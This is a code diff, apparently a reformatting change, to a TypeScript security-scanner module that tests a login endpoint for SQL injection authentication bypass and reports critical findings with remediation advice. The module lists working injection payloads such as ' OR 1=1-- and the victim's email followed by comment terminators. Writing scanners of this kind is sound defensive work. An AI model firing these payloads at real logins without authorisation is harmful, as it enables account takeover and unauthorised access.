@@ -11,7 +11,18 @@ const CAT = 'injection';
 
 /** Tautologies with the comment terminators of the common databases, and "the victim's name, rest commented out". */
 export function tautologies(victimEmail: string): string[] {
-  return [`${victimEmail}'--`, `${victimEmail}' -- `, `${victimEmail}'#`, "' OR 1=1--", "' OR '1'='1'--", "' OR 1=1#", "') OR 1=1--", "')) OR 1=1--", '" OR ""="', "' OR 1=1/*"];
+  return [
+    `${victimEmail}'--`,
+    `${victimEmail}' -- `,
+    `${victimEmail}'#`,
+    "' OR 1=1--",
+    "' OR '1'='1'--",
+    "' OR 1=1#",
+    "') OR 1=1--",
+    "')) OR 1=1--",
+    '" OR ""="',
+    "' OR 1=1/*",
+  ];
 }
 
 /** The login field that carries the user's name (the one bound to {{email}}, else {{handle}}). */
@@ -51,25 +62,39 @@ export async function probeSqlAuthBypass(ctx: ScanContext): Promise<void> {
   }
   const wrong = `rampart-wrong-${randomBytes(4).toString('hex')}`;
   // Control: a plain wrong password must not look like a session (some apps set a cookie on every answer).
-  const control = await call(ctx, { method: login.method, path: login.path }, { user: null, token: '',
-    json: fillTemplate(login.body, varsFor({ ...ctx.a, password: wrong })) });
+  const control = await call(
+    ctx,
+    { method: login.method, path: login.path },
+    { user: null, token: '', json: fillTemplate(login.body, varsFor({ ...ctx.a, password: wrong })) },
+  );
   if (sessionFrom(ctx, control)) {
-    ctx.notes.push('security scan: a failed login also answers with what looks like a session; the SQL login bypass could not be judged');
+    ctx.notes.push(
+      'security scan: a failed login also answers with what looks like a session; the SQL login bypass could not be judged',
+    );
     return;
   }
   for (const payload of tautologies(ctx.a.email)) {
-    const body = { ...(fillTemplate(login.body, varsFor({ ...ctx.a, password: wrong })) as Record<string, unknown>), [field]: payload };
+    const body = {
+      ...(fillTemplate(login.body, varsFor({ ...ctx.a, password: wrong })) as Record<string, unknown>),
+      [field]: payload,
+    };
     const ex = await call(ctx, { method: login.method, path: login.path }, { user: null, token: '', json: body });
     if (ex.response?.status === 429) {
-      ctx.notes.push('security scan: the login answered 429 during the SQL login bypass probe; not all payloads were tried');
+      ctx.notes.push(
+        'security scan: the login answered 429 during the SQL login bypass probe; not all payloads were tried',
+      );
       return;
     }
     if (!sessionFrom(ctx, ex)) continue;
     const asVictim = (ctx.a.email !== '' && payload.startsWith(ctx.a.email)) || carriesAny(ex, [ctx.a.email, ctx.a.id]);
     ctx.sink.add({
-      ruleId: 'rampart-inj-sql-auth-bypass', title: 'Authentication bypass by SQL injection in the login', category: CAT, severity: 'critical',
-      endpoint: `${login.method} ${login.path}`, evidence: ex,
-      description: `Logging in with ${field} = ${JSON.stringify(payload)} and a wrong password returned a session${asVictim ? " (as user A, whose password was not given)" : ' (as whichever account the query returned first, often an administrator)'}. The login builds SQL from the input: use parameterised queries and compare password hashes in code.`,
+      ruleId: 'rampart-inj-sql-auth-bypass',
+      title: 'Authentication bypass by SQL injection in the login',
+      category: CAT,
+      severity: 'critical',
+      endpoint: `${login.method} ${login.path}`,
+      evidence: ex,
+      description: `Logging in with ${field} = ${JSON.stringify(payload)} and a wrong password returned a session${asVictim ? ' (as user A, whose password was not given)' : ' (as whichever account the query returned first, often an administrator)'}. The login builds SQL from the input: use parameterised queries and compare password hashes in code.`,
     });
     return;
   }
